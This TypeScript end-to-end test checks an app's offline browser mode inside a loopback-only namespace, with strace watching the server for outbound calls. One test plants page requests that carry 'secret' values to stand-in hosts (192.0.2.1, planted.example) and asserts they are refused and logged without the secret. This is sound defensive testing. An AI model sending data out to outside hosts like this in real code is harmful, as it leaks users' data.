// Browser mode without a network: the server and a real Chromium in one namespace that has only loopback. The sample's flow
// is started and watched in the page; the server's system calls are traced; requests planted in the page are refused,
// counted and shown.
import { chromium, type Browser, type Page } from 'playwright-core';
import { spawn, type ChildProcess } from 'node:child_process';
import { once } from 'node:events';
import { chmodSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join, resolve } from 'node:path';
import { createInterface } from 'node:readline';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { browserArguments, browserPath, noBrowser } from '../support/browser-app.ts';
import { watchPage } from '../support/watched-pages.ts';
import {
  callsToElsewhere,
  noNamespaces,
  noTrace,
  notInCi,
  openNamespace,
  type Namespace,
} from '../support/isolation.ts';
import { installedModelFiles } from '../support/model-files.ts';

const models = await installedModelFiles();
const cli = resolve(import.meta.dirname, '../../out/main/cli.js');
const reason = noBrowser ?? noNamespaces ?? noTrace;

/** What the page asks for when the sample's button is pressed, made small: the flow is the same. */
const smallSample = {
  users: 40,
  llmUsers: 1,
  overrides: {
    ...{ device: 'cpu', 'model.hidden': '16', 'model.blocks': '1' },
    ...{ 'phase1.maxEpochs': '2', 'phase2.maxEpochs': '1' },
  },
};

describe.skipIf(reason !== undefined)(`browser mode without a network (${reason ?? 'Chromium'})`, () => {
  let folder: string;
  let namespace: Namespace;
  let server: ChildProcess;
  let browser: Browser;
  let page: Page;
  const errors: string[] = [];
  const trace = (): string => join(folder, 'server.trace');

  beforeAll(async () => {
    folder = mkdtempSync(join(tmpdir(), 'isthmus-offline-'));
    const data = join(folder, 'data');
    mkdirSync(data);
    if ('chat' in models) symlinkSync(dirname(models.chat), join(data, 'models'));
    namespace = await openNamespace();
    const traced = ['strace', '-f', '-qq', '-o', trace(), '-e', 'trace=connect,sendto,sendmsg,sendmmsg'];
    const [command = '', ...args] = namespace.enter([...traced, process.execPath, cli, 'serve', '--json']);
    server = spawn(command, args, {
      cwd: folder,
      env: {
        ...process.env,
        ...notInCi,
        ...{ HOME: folder, ISTHMUS_DATA_DIR: data, NODE_OPTIONS: '', ORT_DISABLE_TELEMETRY: undefined },
      },
      stdio: ['ignore', 'pipe', 'inherit'],
    });
    const [line] = (await once(createInterface({ input: server.stdout! }), 'line')) as [string];
    const { url } = JSON.parse(line) as { url: string };

    const inNamespace = join(folder, 'chromium');
    writeFileSync(inNamespace, `#!/bin/sh\nexec ${namespace.enter([browserPath!]).join(' ')} "$@"\n`);
    chmodSync(inNamespace, 0o755);
    browser = await chromium.launch({ executablePath: inNamespace, args: [...browserArguments] });
    page = await (
      await browser.newContext({ locale: 'en-US', viewport: { width: 1280, height: 800 } })
    ).newPage();
    watchPage(page);
    page.setDefaultTimeout(90_000); // every system call of the server stops for the trace
    page.on('pageerror', (error) => errors.push(error.message));
    await page.routeWebSocket(/\/rpc$/, (socket) => {
      const connected = socket.connectToServer();
      socket.onMessage((message) => connected.send(shrinkSample(message)));
    });
    await page.goto(url);
  });
  afterAll(async () => {
    await browser.close();
    server.kill('SIGKILL');
    namespace.close();
    rmSync(folder, { recursive: true, force: true });
  });

  const indicator = (text: RegExp): Promise<void> =>
    page.getByRole('button', { name: text }).waitFor({ timeout: 30_000 });

  it('runs the sample’s whole flow in view', async () => {
    await indicator(/^offline · 0 refused$/);
    await page.getByRole('button', { name: 'Try the sample' }).click();
    await page.getByRole('list', { name: 'Stages of the sample' }).waitFor();
    await page.getByText('See recommendations').waitFor({ timeout: 350_000 });
    await indicator(/^offline · 0 refused$/);
    expect(errors).toEqual([]);
  }, 400_000);

  it('shows on every screen what the flow made, and writes the recommendations of all users to a file', async () => {
    const open = async (screen: string): Promise<void> => {
      await page.getByRole('link', { name: screen, exact: true }).first().click();
      await page.getByRole('heading', { level: 1, name: screen }).waitFor();
    };
    await open('Data');
    await page.getByRole('group', { name: 'Key figures' }).getByText('40', { exact: true }).first().waitFor();
    await open('Train');
    await page.getByRole('table').getByText('finished').first().waitFor();
    await open('Evaluate');
    await page.getByRole('cell', { name: 'popularity', exact: true }).first().waitFor();
    await open('Recommend');
    await page.getByRole('button', { name: 'Export', exact: true }).click();
    await page.getByRole('menuitem', { name: 'Recommendations as a table…' }).click();
    const file = join(folder, 'top.csv');
    const dialog = page.getByRole('dialog');
    await dialog.getByRole('textbox', { name: 'File' }).fill(file);
    await dialog.getByRole('button', { name: 'Export' }).click();
    await page.getByText('Wrote 800 rows for 40 users').waitFor();
    const [header = '', ...rows] = readFileSync(file, 'utf8').trim().split('\r\n');
    const column = (name: string): number => header.replace('\ufeff', '').split(',').indexOf(name);
    const lists = Map.groupBy(
      rows.map((row) => row.split(',')),
      (cells) => `${cells[column('user')]} ${cells[column('domain')]}`,
    );
    expect(lists.size).toBe(80);
    for (const list of lists.values()) {
      expect(list.map((cells) => cells[column('rank')])).toEqual(
        Array.from({ length: 10 }, (_, i) => `${i + 1}`),
      );
      expect(new Set(list.map((cells) => cells[column('item')])).size).toBe(10);
    }
    await page.keyboard.press('Escape');
    expect(errors).toEqual([]);
  });

  it('refuses what is planted in the page, counts it, and shows it without what it carried', async () => {
    await page.evaluate(`(async () => {
      await fetch('http://192.0.2.1/planted?secret=1').catch(() => undefined);
      await fetch('https://planted.example/more', { method: 'POST', body: 'secret' }).catch(() => undefined);
      new Image().src = 'http://192.0.2.1/pixel.png?secret=1';
      try { new WebSocket('ws://192.0.2.1/socket'); } catch { /* a browser may refuse at once */ }
    })()`);
    await indicator(/^offline · 4 refused$/);
    await page.getByRole('button', { name: /^offline/ }).click();
    const log = page.getByRole('dialog');
    for (const target of [
      'http://192.0.2.1/planted',
      'https://planted.example/more',
      'http://192.0.2.1/pixel.png',
      'ws://192.0.2.1/socket',
    ])
      await log.getByText(target).waitFor();
    expect(await log.innerText()).not.toContain('secret');
    const lines = readFileSync(join(folder, 'data', 'logs', 'isthmus.log'), 'utf8');
    expect(lines.match(/"message":"network request refused","processName":"page"/g)).toHaveLength(4);
  });

  it('made no call to anywhere else, in any process of the app', async () => {
    // strace ignores signals while it traces: its child, the server, gets what Ctrl-C would send.
    const children = readFileSync(`/proc/${String(server.pid)}/task/${String(server.pid)}/children`, 'utf8');
    const exited = once(server, 'exit');
    process.kill(Number(children.trim().split(' ')[0]), 'SIGINT');
    expect(await exited).toEqual([0, null]);
    const text = readFileSync(trace(), 'utf8');
    expect(text.length).toBeGreaterThan(0);
    expect(callsToElsewhere(text)).toEqual([]);
  });
});

/** The page's call of startSample with a small input; everything else as it is. */
function shrinkSample(message: string | Buffer): string | Buffer {
  if (typeof message !== 'string' || !message.includes('/workspaces/startSample')) return message;
  const call = JSON.parse(message) as { p: { b: { json: object } } };
  call.p.b.json = smallSample;
  return JSON.stringify(call);
}
